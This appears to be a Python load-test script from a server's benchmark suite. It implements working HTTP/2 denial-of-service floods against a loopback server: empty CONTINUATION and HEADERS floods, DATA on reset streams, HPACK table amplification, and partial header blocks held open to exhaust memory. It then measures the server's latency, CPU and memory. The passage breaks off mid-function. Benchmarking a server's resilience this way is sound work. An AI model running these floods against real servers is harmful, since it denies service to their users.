#!/usr/bin/env python3
"""HTTP/2 attack and memory scenarios for benches/load/attack.sh (stdlib only, Python >= 3.8).

A raw-socket h2c client (prior knowledge, loopback only) that plays a victim, attackers and
connection holders against one server at a time, and reads the server's CPU and RssAnon from
/proc. attack.sh documents the scenarios; each subcommand prints one JSON object.

Subcommands:
  victim     a fresh h2c connection every --interval s, one GET each: latency p50/p99
  attack     --conns connections running one attack kind (reconnecting when closed)
  scenario   victim unattacked, then victim + attack: ratios, server CPU%, GOAWAYs
  partial    connections each holding a partial header block: RssAnon, how long kept
  idle       idle HTTP/1.1 keep-alive or h2c connections (one request each): RssAnon
  capfair    silent connections up to a cap, then a new client's GET
  report     results JSONL -> Markdown tables

Attack kinds (each connection: preface, SETTINGS, a prelude, then one frame repeated as fast
as the socket takes it):
  reset-headers  GET on stream 1 without END_STREAM (answered, reset NO_ERROR), then HEADERS
                 (a 7-byte trailer block, END_STREAM) on stream 1 again and again
  hpack          a request inserts a 4,000-byte field into the HPACK dynamic table once; then
                 valid GETs on new streams that each index that entry 3 times (0xbe x3)
  pad-data       DATA on the reset stream 1, PADDED, pad length 0, no data
  data1          DATA on the reset stream 1, one byte
  empty-cont     HEADERS on stream 1 without END_HEADERS, then empty CONTINUATIONs
  empty-headers  GETs without END_STREAM on streams 1..199 (reset), then empty HEADERS
                 (END_STREAM) cycling over those 100 streams
"""

import argparse
import asyncio
import fcntl
import json
import os
import socket
import statistics
import struct
import subprocess
import sys
import time
from collections import Counter

from loadtool import read_h1_response  # beside this file

HOST = "127.0.0.1"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
JWKS = "/openid/v1/jwks"

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, \
    CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 0x1, 0x1, 0x4, 0x8
REASONS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
           4: "SETTINGS_TIMEOUT", 5: "STREAM_CLOSED", 6: "FRAME_SIZE_ERROR",
           7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 10: "CONNECT_ERROR",
           11: "ENHANCE_YOUR_CALM", 12: "INADEQUATE_SECURITY", 13: "HTTP_1_1_REQUIRED"}


def reason(code):
    return REASONS.get(code, f"0x{code:x}")


# ---------------------------------------------------------------- frames and HPACK
def frame(typ, flags, sid, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes((typ, flags)) + \
        (sid & 0x7FFFFFFF).to_bytes(4, "big") + payload


def settings(*pairs):
    return frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", k, v) for k, v in pairs))


def window_update(sid, inc):
    return frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", inc))


def hp_int(value, prefix, first=0):
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes((first | value,))
    out = bytearray((first | limit,))
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hp_str(s):
    b = s if isinstance(s, bytes) else s.encode()
    return hp_int(len(b), 7) + b


def hp_literal(name, value, indexing=False):
    """A literal field with a new name, with incremental indexing or without indexing."""
    return (b"\x40" if indexing else b"\x00") + hp_str(name) + hp_str(value)


def hp_literal_indexed_name(index, value):
    """A literal field without indexing whose name is static-table entry `index`."""
    return hp_int(index, 4) + hp_str(value)


def get_block(port, path=JWKS):
    # :method GET (2), :scheme http (6), :path (4) literal, :authority (1) literal
    return b"\x82\x86" + hp_literal_indexed_name(4, path) + \
        hp_literal_indexed_name(1, f"{HOST}:{port}")


def status_of(block):
    """The :status of a response header block when it is a static-table index (200, 304, 404...)."""
    static = {0x88: 200, 0x89: 204, 0x8a: 206, 0x8b: 304, 0x8c: 400, 0x8d: 404, 0x8e: 500}
    if block and block[0] == 0x20:  # a dynamic table size update first
        block = block[1:]
    if block and block[0] in static:
        return static[block[0]]
    # A literal whose name is static entry 8 (:status), value not Huffman-coded.
    if len(block) >= 5 and block[0] in (0x08, 0x18, 0x48) and block[1] == 3:
        try:
            return int(block[2:5])
        except ValueError:
            return None
    return None


SIOCOUTQNSD = 0x894B


def unsent(sock):
    """Bytes in the socket's send queue not sent yet (SIOCOUTQNSD; over loopback, what is sent
    has arrived: unlike SIOCOUTQ this does not wait for a delayed ACK)."""
    try:
        buf = fcntl.ioctl(sock.fileno(), SIOCOUTQNSD, b"\0\0\0\0")
        return struct.unpack("i", buf)[0]
    except OSError:
        return 0


def abort(writer):
    """Close with RST (SO_LINGER 0): no TIME_WAIT left behind on the client's ports."""
    sock = writer.get_extra_info("socket")
    try:
        if sock is not None:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    except OSError:
        pass
    writer.close()


def raise_nofile(n):
    import resource
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    want = min(hard, max(soft, n))
    resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
    return want


# ---------------------------------------------------------------- /proc
def proc_ticks(pids):
    t = 0
    for p in pids:
        try:
            with open(f"/proc/{p}/stat") as f:
                s = f.read()
        except OSError:
            continue
        fields = s[s.rindex(")") + 2:].split()
        t += int(fields[11]) + int(fields[12])  # utime + stime
    return t


def proc_status_kib(pids, key):
    t = 0
    for p in pids:
        try:
            with open(f"/proc/{p}/status") as f:
                for line in f:
                    if line.startswith(key + ":"):
                        t += int(line.split()[1])
                        break
        except OSError:
            pass
    return t


def alive(pids):
    return all(os.path.exists(f"/proc/{p}") for p in pids)


def pctl(xs, p):
    if not xs:
        return None
    xs = sorted(xs)
    i = min(len(xs) - 1, max(0, int(round(p / 100.0 * len(xs))) - 1))
    return xs[i]


# ---------------------------------------------------------------- victim
async def victim_one(port, timeout, block):
    t0 = time.perf_counter()
    w = None
    try:
        r, w = await asyncio.wait_for(asyncio.open_connection(HOST, port), timeout)
        w.write(PREFACE + settings() + frame(HEADERS, END_STREAM | END_HEADERS, 1, block))
        status = None
        deadline = t0 + timeout
        while True:
            left = deadline - time.perf_counter()
            head = await asyncio.wait_for(r.readexactly(9), max(left, 0.001))
            n = int.from_bytes(head[:3], "big")
            typ, flags, sid = head[3], head[4], int.from_bytes(head[5:9], "big") & 0x7FFFFFFF
            payload = await asyncio.wait_for(r.readexactly(n), max(deadline - time.perf_counter(), 0.001)) if n else b""
            if typ == SETTINGS and not flags & ACK:
                w.write(frame(SETTINGS, ACK, 0))
            elif typ == GOAWAY:
                return None, "goaway " + reason(int.from_bytes(payload[4:8], "big"))
            elif sid == 1 and typ == RST_STREAM:
                return None, "rst " + reason(int.from_bytes(payload[:4], "big"))
            elif sid == 1 and typ == HEADERS:
                status = status_of(payload)
                if flags & END_STREAM:
                    break
            elif sid == 1 and typ == DATA and flags & END_STREAM:
                break
        ms = (time.perf_counter() - t0) * 1000.0
        if status != 200:
            return ms, f"status {status}"
        return ms, None
    except asyncio.TimeoutError:
        return None, "timeout"
    except (ConnectionError, asyncio.IncompleteReadError, OSError) as e:
        return None, type(e).__name__
    finally:
        if w is not None:
            abort(w)


async def victim(port, interval, duration, timeout):
    block = get_block(port)
    tasks = []
    start = time.perf_counter()
    i = 0
    while True:
        at = start + i * interval
        if at - start >= duration:
            break
        now = time.perf_counter()
        if at > now:
            await asyncio.sleep(at - now)
        tasks.append(asyncio.ensure_future(victim_one(port, timeout, block)))
        i += 1
    results = await asyncio.gather(*tasks)
    lat = [ms for ms, err in results if err is None]
    errors = Counter(err for _, err in results if err is not None)
    # Failures count as the timeout in the percentiles (a lower bound of their latency).
    with_fail = lat + [timeout * 1000.0] * sum(errors.values())
    return {"samples": len(results), "ok": len(lat), "errors": dict(errors),
            "p50_ms": pctl(with_fail, 50), "p99_ms": pctl(with_fail, 99),
            "max_ms": max(with_fail) if with_fail else None}


def cmd_victim(a):
    print(json.dumps(asyncio.run(victim(a.port, a.interval, a.duration, a.timeout))))


# ---------------------------------------------------------------- attackers
BIG_VALUE = b"a" * 4000
# Requests in flight per hpack attacker: under nginx's and issuerd's concurrent-stream limits,
# so that every request is valid and answered.
HPACK_IN_FLIGHT = 100


class Kind:
    """What an attacking connection sends: a prelude, then attack frames (`take`)."""

    def __init__(self, kind, port):
        self.kind = kind
        get = get_block(port)
        pre = []
        self.requests = False
        self.in_block = kind == "empty-cont"
        units = None
        if kind == "reset-headers":
            pre.append(frame(HEADERS, END_HEADERS, 1, get))
            trailer = hp_literal(b"x-t", b"1")  # 7 bytes
            units = [frame(HEADERS, END_HEADERS | END_STREAM, 1, trailer)]
        elif kind == "hpack":
            pre.append(frame(HEADERS, END_HEADERS | END_STREAM, 1,
                             get + hp_literal(b"x-a", BIG_VALUE, indexing=True)))
            self.requests = True
            payload = get + b"\xbe\xbe\xbe"
            self.hpack_head = len(payload).to_bytes(3, "big") + bytes((HEADERS, END_HEADERS | END_STREAM))
            self.hpack_payload = payload
            self.next_sid = 3
            self.frame_len = 9 + len(payload)
        elif kind == "pad-data":
            pre.append(frame(HEADERS, END_HEADERS, 1, get))
            units = [frame(DATA, PADDED, 1, b"\x00")]
        elif kind == "data1":
            pre.append(frame(HEADERS, END_HEADERS, 1, get))
            units = [frame(DATA, 0, 1, b"x")]
        elif kind == "empty-cont":
            pre.append(frame(HEADERS, END_STREAM, 1, get))
            units = [frame(CONTINUATION, 0, 1, b"")]
        elif kind == "empty-headers":
            for sid in range(1, 200, 2):
                pre.append(frame(HEADERS, END_HEADERS, sid, get))
            units = [frame(HEADERS, END_HEADERS | END_STREAM, sid, b"") for sid in range(1, 200, 2)]
        else:
            raise SystemExit(f"unknown attack kind {kind!r}")
        self.prelude_frames = len(pre)
        self.prelude = b"".join(pre)
        if units is not None:
            self.cycle = b"".join(units)
            self.cycle_frames = len(units)
            self.frame_len = len(units[0])
            self.at = 0  # position in the cycle, in frames
        # Frames per flood write: about 32 KiB.
        self.chunk_frames = max(1, 32768 // self.frame_len)
        self.cache = {}

    def take(self, n):
        """The next `n` attack frames."""
        if self.requests:
            parts = []
            for _ in range(n):
                parts.append(self.hpack_head + self.next_sid.to_bytes(4, "big") + self.hpack_payload)
                self.next_sid += 2
            return b"".join(parts)
        if self.cycle_frames == 1:
            b = self.cache.get(n)
            if b is None:
                b = self.cache[n] = self.cycle * n
            return b
        fl = self.frame_len
        out = bytearray()
        while n:
            k = min(n, self.cycle_frames - self.at)
            out += self.cycle[self.at * fl:(self.at + k) * fl]
            self.at = (self.at + k) % self.cycle_frames
            n -= k
        return bytes(out)


# Windows as large as a client may ask, so that no response is held back by flow control.
SETUP = PREFACE + settings((4, 1 << 20)) + window_update(0, 1 << 30)


class Raw:
    """A non-blocking socket driven by the event loop's sock_* calls. Unlike asyncio streams, a
    failed send does not close it, so what the server sent before closing (its GOAWAY) can
    still be read. Frames from the reader (acknowledgements, WINDOW_UPDATE) are queued and go
    out before the writer's next chunk, never inside one."""

    def __init__(self, sock):
        self.sock = sock
        self.loop = asyncio.get_running_loop()
        self.rbuf = b""
        self.pending = []

    @classmethod
    async def connect(cls, port, timeout=5.0):
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        try:
            await asyncio.wait_for(asyncio.get_running_loop().sock_connect(sock, (HOST, port)), timeout)
        except BaseException:
            sock.close()
            raise
        return cls(sock)

    def queue(self, data):
        self.pending.append(data)

    async def send(self, data=b""):
        if self.pending:
            data = b"".join(self.pending) + data
            self.pending.clear()
        if data:
            await self.loop.sock_sendall(self.sock, data)

    async def recv(self):
        if self.rbuf:
            data, self.rbuf = self.rbuf, b""
            return data
        return await self.loop.sock_recv(self.sock, 262144)

    def close(self):
        try:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        except OSError:
            pass
        self.sock.close()


async def handshake(raw, timeout=5.0):
    """Preface and SETTINGS, then the server's SETTINGS acknowledged before anything else is
    sent (an acknowledgement later could land inside a header block)."""
    await raw.send(SETUP)
    deadline = time.monotonic() + timeout
    buf = b""
    while True:
        while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
            n = int.from_bytes(buf[:3], "big")
            typ, flags, payload = buf[3], buf[4], buf[9:9 + n]
            buf = buf[9 + n:]
            if typ == SETTINGS and not flags & ACK:
                raw.rbuf = buf
                await raw.send(frame(SETTINGS, ACK, 0))
                return
            if typ == GOAWAY:
                raise ConnectionError("GOAWAY " + reason(int.from_bytes(payload[4:8], "big")))
        left = deadline - time.monotonic()
        if left <= 0:
            raise asyncio.TimeoutError()
        data = await asyncio.wait_for(raw.recv(), left)
        if not data:
            raise ConnectionError("EOF")
        buf += data


NETLINK_SOCK_DIAG, SOCK_DIAG_BY_FAMILY, NLMSG_ERROR = 4, 20, 2


def server_rx_queue(server_port, client_port, _nl=[]):
    """Bytes the server has not read yet from the connection of `client_port` (its socket's
    receive queue), or None once that socket is gone. Asked of the kernel for that one socket
    (sock_diag netlink, as `ss` does): /proc/net/tcp lists every socket, which takes tens of ms
    once other work leaves thousands in TIME_WAIT."""
    try:
        if not _nl:
            _nl.append(socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, NETLINK_SOCK_DIAG))
        nl = _nl[0]
        lo = socket.inet_aton(HOST) + b"\0" * 12
        sockid = struct.pack(">HH", server_port, client_port) + lo + lo + struct.pack("=III", 0, 0xFFFFFFFF, 0xFFFFFFFF)
        req = struct.pack("=BBBBI", socket.AF_INET, socket.IPPROTO_TCP, 0, 0, 0xFFFFFFFF) + sockid
        msg = struct.pack("=IHHII", 16 + len(req), SOCK_DIAG_BY_FAMILY, 1, 0, 0) + req
        nl.send(msg)
        resp = nl.recv(65536)
        typ = struct.unpack_from("=H", resp, 4)[0]
        if typ == NLMSG_ERROR:
            return None
        # inet_diag_msg: family, state, timer, retrans (4), sockid (48), expires, rqueue, ...
        state = resp[16 + 1]
        if state not in (1, 8):  # ESTABLISHED, CLOSE_WAIT
            return None
        return struct.unpack_from("=I", resp, 16 + 4 + 48 + 4)[0]
    except OSError:
        pass
    local, remote = f"0100007F:{server_port:04X}", f"0100007F:{client_port:04X}"
    with open("/proc/net/tcp") as f:
        for line in f:
            parts = line.split()
            if len(parts) > 4 and parts[1] == local and parts[2] == remote and parts[3] in ("01", "08"):
                return int(parts[4].split(":")[1], 16)
    return None


class Peer:
    """Reads a server's frames for an attacking connection: answers SETTINGS and PING, gives
    back connection window, counts responses, and notes GOAWAY, EOF or reset."""

    def __init__(self, raw, on_end, quiet=False):
        self.raw, self.on_end = raw, on_end
        # Nothing is written (a frame in the middle of a header block is a protocol error).
        self.quiet = quiet
        self.responses = 0
        self.rst = 0
        self.progress = asyncio.Event()
        self.done = asyncio.Event()

    async def run(self):
        buf = b""
        data_owed = 0
        raw = self.raw
        try:
            while True:
                chunk = await raw.recv()
                if not chunk:
                    self.on_end("closed (EOF)")
                    return
                buf = buf + chunk if buf else chunk
                pos, n = 0, len(buf)
                while n - pos >= 9:
                    v = int.from_bytes(buf[pos:pos + 4], "big")
                    ln, typ = v >> 8, v & 0xFF
                    if n - pos - 9 < ln:
                        break
                    flags = buf[pos + 4]
                    if typ == DATA:
                        data_owed += ln
                        if flags & END_STREAM:
                            self.responses += 1
                    elif typ == HEADERS:
                        if flags & END_STREAM:
                            self.responses += 1
                    elif typ == RST_STREAM:
                        self.rst += 1
                    elif typ == SETTINGS:
                        if not flags & ACK and not self.quiet:
                            raw.queue(frame(SETTINGS, ACK, 0))
                    elif typ == PING:
                        if not flags & ACK and not self.quiet:
                            raw.queue(frame(PING, ACK, 0, buf[pos + 9:pos + 17]))
                    elif typ == GOAWAY:
                        code = int.from_bytes(buf[pos + 13:pos + 17], "big")
                        self.on_end("GOAWAY " + reason(code))
                    pos += 9 + ln
                buf = buf[pos:]
                if data_owed > (8 << 20) and not self.quiet:
                    raw.queue(window_update(0, data_owed))
                    data_owed = 0
                self.progress.set()
        except (ConnectionError, OSError) as e:
            self.on_end("reset (" + type(e).__name__ + ")")
        except asyncio.CancelledError:
            pass
        finally:
            self.progress.set()
            self.done.set()


async def finish(peer, rt, grace):
    """Lets the reader see what the server sent last (GOAWAY, EOF), then stops it."""
    try:
        await asyncio.wait_for(peer.done.wait(), grace)
    except asyncio.TimeoutError:
        pass
    rt.cancel()
    try:
        await rt
    except BaseException:  # noqa: BLE001 - the reader's end is already recorded
        pass


async def attack_conn(a, stop_at, t_start, record):
    """One flooding connection, until the server ends it or the attack stops."""
    kind = Kind(a.kind, a.port)
    rec = {"opened_s": round(time.monotonic() - t_start, 3), "end": None, "end_s": None,
           "frames_written": 0}
    record.append(rec)
    raw = None
    try:
        raw = await Raw.connect(a.port)
        await handshake(raw)
    except (OSError, asyncio.TimeoutError) as e:
        rec["end"] = "handshake failed (" + (str(e) if isinstance(e, ConnectionError) and str(e) else type(e).__name__) + ")"
        rec["end_s"] = round(time.monotonic() - t_start, 3)
        if raw is not None:
            raw.close()
        await asyncio.sleep(0.05)
        return
    ended = asyncio.Event()

    def end(what):
        # A GOAWAY read after a failed send or a reset still says why the server closed.
        if rec["end"] is None or (what.startswith("GOAWAY") and not rec["end"].startswith("GOAWAY")):
            if rec["end"] is None:
                rec["end_s"] = round(time.monotonic() - t_start, 3)
            rec["end"] = what
        ended.set()

    peer = Peer(raw, end, quiet=kind.in_block)
    rt = asyncio.ensure_future(peer.run())
    sent = kind.prelude_frames
    data = kind.prelude
    write_error = None
    try:
        while not ended.is_set() and time.monotonic() < stop_at:
            if kind.requests:
                # Valid requests only: at most HPACK_IN_FLIGHT unanswered.
                room = HPACK_IN_FLIGHT - (sent - peer.responses - peer.rst)
                if room <= 0:
                    peer.progress.clear()
                    try:
                        await asyncio.wait_for(peer.progress.wait(), 1.0)
                    except asyncio.TimeoutError:
                        pass
                    await raw.send()
                    continue
                n = room
            else:
                n = kind.chunk_frames
            await raw.send(data + kind.take(n))
            data = b""
            sent += n
    except (ConnectionError, OSError) as e:
        write_error = type(e).__name__
    rec["frames_written"] = sent
    await finish(peer, rt, 0.5 if write_error or ended.is_set() else 0.0)
    if write_error and rec["end"] is None:
        end("reset (" + write_error + ", sending)")
    rec["responses"], rec["rst"] = peer.responses, peer.rst
    raw.close()


async def attacker_loop(a, stop_at, t_start, record):
    while time.monotonic() < stop_at:
        await attack_conn(a, stop_at, t_start, record)
        if not a.reconnect:
            break


async def attack(a):
    t_start = time.monotonic()
    stop_at = t_start + a.duration
    record = []
    await asyncio.gather(*(attacker_loop(a, stop_at, t_start, record) for _ in range(a.conns)))
    ended = [r for r in record if r["end"] is not None]
    open_at_end = [r for r in record if r["end"] is None]
    return {
        "kind": a.kind,
        "conns": a.conns,
        "connections_opened": len(record),
        "connections_ended": len(ended),
        "open_at_end": len(open_at_end),
        "ends": dict(Counter(r["end"] for r in ended)),
        "first_end_s": min((r["end_s"] for r in ended), default=None),
        "frames_written": sum(r["frames_written"] for r in record),
        "responses": sum(r.get("responses", 0) for r in record),
        "rst": sum(r.get("rst", 0) for r in record),
    }


def cmd_attack(a):
    raise_nofile(4096)
    print(json.dumps(asyncio.run(attack(a))))


async def probe(port, kind_name, max_frames, max_secs):
    """How many attack frames the server reads and accepts before it ends the connection, to
    within a batch: frames go in batches, and a batch counts once the server's socket has no
    unread byte left (sock_diag) and no GOAWAY or close followed within 1 ms. Batches of
    100 frames up to 10,000, then 1,000 up to 100,000, then 10,000 (hpack: 100 requests
    always, under the concurrent-stream limits)."""
    kind = Kind(kind_name, port)
    t0 = time.monotonic()
    res = {"kind": kind_name, "end": None, "acked": 0, "sent": 0, "secs": None}
    raw = None
    try:
        raw = await Raw.connect(port)
        await handshake(raw)
    except (OSError, asyncio.TimeoutError) as e:
        res["end"] = "handshake failed (" + type(e).__name__ + ")"
        if raw is not None:
            raw.close()
        return res
    cport = raw.sock.getsockname()[1]
    ended = asyncio.Event()

    def end(what):
        if res["end"] is None or (what.startswith("GOAWAY") and not res["end"].startswith("GOAWAY")):
            if res["end"] is None:
                res["secs"] = round(time.monotonic() - t0, 3)
            res["end"] = what
        ended.set()

    peer = Peer(raw, end, quiet=kind.in_block)
    rt = asyncio.ensure_future(peer.run())
    deadline = t0 + max_secs
    data = kind.prelude
    write_error = None
    try:
        while not ended.is_set() and res["sent"] < max_frames and time.monotonic() < deadline:
            sent = res["sent"]
            b = 100 if (sent < 10000 or kind.requests) else 1000 if sent < 100000 else 10000
            await raw.send(data + kind.take(b))
            data = b""
            res["sent"] += b
            read = False
            while not ended.is_set() and time.monotonic() < deadline:
                if unsent(raw.sock) == 0:
                    q = server_rx_queue(port, cport)
                    if q is None:  # the server closed: its GOAWAY or EOF is on the way
                        break
                    if q == 0 and (not kind.requests or peer.responses >= res["sent"]):
                        read = True
                        break
                await asyncio.sleep(0.0005)
            if read:
                await asyncio.sleep(0.001)
                if not ended.is_set():
                    res["acked"] = res["sent"]
            elif not ended.is_set():
                break
    except (ConnectionError, OSError) as e:
        write_error = type(e).__name__
    await finish(peer, rt, 0.3)
    if res["end"] is None and write_error:
        end("reset (" + write_error + ", sending)")
    if res["secs"] is None:
        res["secs"] = round(time.monotonic() - t0, 3)
    res["responses"] = peer.responses
    raw.close()
    return res


def cmd_probe(a):
    print(json.dumps(asyncio.run(probe(a.port, a.kind, a.max_frames, a.max_secs))))


# ---------------------------------------------------------------- scenario
def cmd_scenario(a):
    me = [sys.executable, os.path.abspath(__file__)]
    vic = me + ["victim", "--port", str(a.port), "--interval", str(a.interval),
                "--timeout", str(a.timeout)]
    out = {"scenario": a.name, "server": a.server, "kind": a.kind, "conns": a.conns}
    base = subprocess.run(vic + ["--duration", str(a.baseline)], capture_output=True, text=True,
                          timeout=a.baseline + a.timeout + 30)
    out["unattacked"] = json.loads(base.stdout)
    pr = subprocess.run(me + ["probe", "--port", str(a.port), "--kind", a.kind,
                              "--max-frames", str(a.probe_frames), "--max-secs", str(a.probe_secs)],
                        capture_output=True, text=True, timeout=a.probe_secs + 30)
    out["probe"] = json.loads(pr.stdout)
    att = subprocess.Popen(me + ["attack", "--port", str(a.port), "--kind", a.kind,
                                 "--conns", str(a.conns), "--duration", str(a.duration)]
                           + (["--reconnect"] if a.reconnect else []),
                           stdout=subprocess.PIPE, text=True)
    try:
        time.sleep(a.warmup)
        t0, c0 = time.monotonic(), proc_ticks(a.pid)
        vproc = subprocess.run(vic + ["--duration", str(max(1.0, a.duration - a.warmup - 0.5))],
                               capture_output=True, text=True,
                               timeout=a.duration + a.timeout + 30)
        t1, c1 = time.monotonic(), proc_ticks(a.pid)
        out["attacked"] = json.loads(vproc.stdout)
        stdout, _ = att.communicate(timeout=a.duration + 30)
        out["attack"] = json.loads(stdout)
    finally:
        if att.poll() is None:
            att.kill()
            att.wait()
    hz = os.sysconf("SC_CLK_TCK")
    out["cpu_pct"] = round(100.0 * (c1 - c0) / hz / (t1 - t0), 1)
    out["server_alive"] = alive(a.pid)
    print(json.dumps(out))


# ---------------------------------------------------------------- partial header blocks
def partial_block_frames(port, block_size):
    """HEADERS (no END_HEADERS) + CONTINUATIONs (none with END_HEADERS) carrying a header block
    of exactly `block_size` bytes: the GET's fields, then 1,000-byte literal fields."""
    first = get_block(port)
    fields = bytearray()
    i = 0
    while True:
        room = block_size - len(first) - len(fields)
        if room < 16:
            break
        v = min(1000, room - 15)
        field = hp_literal(b"x-fill-%03d" % (i % 1000), b"a" * v)
        while len(field) > room:
            v -= 1
            field = hp_literal(b"x-fill-%03d" % (i % 1000), b"a" * v)
        fields += field
        i += 1
    frames = [frame(HEADERS, END_STREAM, 1, first)]
    for at in range(0, len(fields), 16384):
        frames.append(frame(CONTINUATION, 0, 1, bytes(fields[at:at + 16384])))
    return b"".join(frames), len(first) + len(fields)


async def keeps_partial(port, size, wait=0.3):
    """Whether the server keeps (for `wait` s) a connection that sent a partial block of `size`."""
    data, _ = partial_block_frames(port, size)
    r, w = await asyncio.wait_for(asyncio.open_connection(HOST, port), 5)
    try:
        w.write(PREFACE + settings() + data)
        deadline = time.monotonic() + wait
        while True:
            left = deadline - time.monotonic()
            if left <= 0:
                return True
            try:
                head = await asyncio.wait_for(r.readexactly(9), left)
            except asyncio.TimeoutError:
                return True
            n = int.from_bytes(head[:3], "big")
            if n:
                await r.readexactly(n)
            if head[3] in (GOAWAY, RST_STREAM, HEADERS):
                return False
    except (asyncio.IncompleteReadError, ConnectionError, OSError):
        return False
    finally:
        abort(w)


async def largest_kept_block(port, limit):
    """The largest partial header block (a multiple of 1 KiB, at most `limit`) the server keeps."""
    if await keeps_partial(port, limit):
        return limit
    lo, hi = 0, limit // 1024  # lo KiB kept (0: none), hi KiB not kept
    while hi - lo > 1:
        mid = (lo + hi) // 2
        if await keeps_partial(port, mid * 1024):
            lo = mid
        else:
            hi = mid
    return lo * 1024


async def hold_partial(name, port, pids, conns, block_limit, cap, parallel):
    block_size = await largest_kept_block(port, block_limit)
    if block_size == 0:
        return {"server": name, "conns": conns, "block_limit": block_limit, "block_bytes": 0,
                "established": 0, "note": "no partial block of 1 KiB or more is kept"}
    data, size = partial_block_frames(port, block_size)
    msg = PREFACE + settings() + data
    rss0 = proc_status_kib(pids, "RssAnon")
    sem = asyncio.Semaphore(parallel)
    held = []
    failures = Counter()

    async def one():
        async with sem:
            try:
                r, w = await asyncio.wait_for(asyncio.open_connection(HOST, port), 10)
                w.write(msg)
                await asyncio.wait_for(w.drain(), 10)
            except Exception as e:  # noqa: BLE001 - report any failure kind
                failures[type(e).__name__] += 1
                return
            c = {"r": r, "w": w, "sent": time.monotonic(), "end": None, "end_t": None}
            held.append(c)
            c["task"] = asyncio.ensure_future(watch(c))

    async def watch(c):
        r = c["r"]
        try:
            while True:
                head = await r.readexactly(9)
                n = int.from_bytes(head[:3], "big")
                payload = await r.readexactly(n) if n else b""
                if head[3] == GOAWAY and c["end"] is None:
                    c["end"] = "GOAWAY " + reason(int.from_bytes(payload[4:8], "big"))
                    c["end_t"] = time.monotonic()
                elif head[3] == RST_STREAM and c["end"] is None:
                    c["end"] = "RST_STREAM " + reason(int.from_bytes(payload[:4], "big"))
                    c["end_t"] = time.monotonic()
                elif head[3] == HEADERS and c["end"] is None:
                    c["end"] = f"response {status_of(payload)}"
                    c["end_t"] = time.monotonic()
        except asyncio.IncompleteReadError:
            pass
        except (ConnectionError, OSError):
            if c["end"] is None:
                c["end"] = "reset"
        if c["end"] is None:
            c["end"] = "closed (EOF)"
        if c["end_t"] is None:
            c["end_t"] = time.monotonic()
        c["closed_t"] = time.monotonic()

    t0 = time.monotonic()
    await asyncio.gather(*(one() for _ in range(conns)))
    setup_s = time.monotonic() - t0
    await asyncio.sleep(1.0)
    rss1 = proc_status_kib(pids, "RssAnon")
    open_now = sum(1 for c in held if "closed_t" not in c)
    deadline = t0 + cap
    rss_reacted = None  # once every connection was answered (GOAWAY, RST_STREAM...) or closed
    while time.monotonic() < deadline and any("closed_t" not in c for c in held):
        if rss_reacted is None and all(c["end_t"] is not None for c in held):
            await asyncio.sleep(0.5)
            rss_reacted = proc_status_kib(pids, "RssAnon")
            continue
        await asyncio.sleep(0.25)
    still = [c for c in held if "closed_t" not in c]
    kept = sorted(c["closed_t"] - c["sent"] for c in held if "closed_t" in c)
    reacted = sorted(c["end_t"] - c["sent"] for c in held if c["end_t"] is not None)
    ends = Counter(c["end"] for c in held if c["end"] is not None)
    if still:
        ends[f"still open at {cap:.0f} s"] += len(still)
    for c in held:
        abort(c["w"])
        if "task" in c:
            c["task"].cancel()
    await asyncio.sleep(0.5)
    rss2 = proc_status_kib(pids, "RssAnon")
    return {"server": name, "conns": conns, "block_limit": block_limit, "block_bytes": size,
            "established": len(held),
            "failures": dict(failures), "setup_s": round(setup_s, 2),
            "open_after_1s": open_now,
            "rss_before_kib": rss0, "rss_held_kib": rss1, "rss_after_kib": rss2,
            "kib_per_conn": round((rss1 - rss0) / max(1, len(held)), 2),
            "kept_median_s": round(statistics.median(kept), 2) if kept else None,
            "kept_max_s": round(max(kept), 2) if kept else None,
            "reacted": len(reacted),
            "reacted_median_s": round(statistics.median(reacted), 2) if reacted else None,
            "rss_reacted_kib": rss_reacted,
            "still_open_at_cap": len(still), "cap_s": cap, "ends": dict(ends),
            "server_alive": alive(pids)}


def parse_target(spec):
    name, _, rest = spec.partition("=")
    port, _, pids = rest.partition(":")
    return name, int(port), [int(p) for p in pids.split(",") if p]


def cmd_partial(a):
    targets = [parse_target(t) for t in a.target]
    raise_nofile(a.conns * len(targets) + 512)

    async def run():
        return await asyncio.gather(*(hold_partial(n, p, pids, a.conns, a.block, a.cap, a.parallel)
                                      for n, p, pids in targets))
    for res in asyncio.run(run()):
        res["scenario"] = "partial"
        res["header_timeout"] = a.header_timeout
        print(json.dumps(res))


# ---------------------------------------------------------------- idle connections
async def hold_idle(port, pids, conns, proto, parallel):
    sem = asyncio.Semaphore(parallel)
    held = []
    failures = Counter()
    h1 = f"GET {JWKS} HTTP/1.1\r\nHost: {HOST}:{port}\r\n\r\n".encode()
    h2 = PREFACE + settings() + frame(HEADERS, END_STREAM | END_HEADERS, 1, get_block(port))

    async def one():
        async with sem:
            try:
                r, w = await asyncio.wait_for(asyncio.open_connection(HOST, port), 10)
            except Exception as e:  # noqa: BLE001
                failures[type(e).__name__] += 1
                return
            try:
                if proto == "h1":
                    w.write(h1)
                    status = await read_h1_response(r)
                else:
                    w.write(h2)
                    status = None
                    while True:
                        head = await asyncio.wait_for(r.readexactly(9), 10)
                        n = int.from_bytes(head[:3], "big")
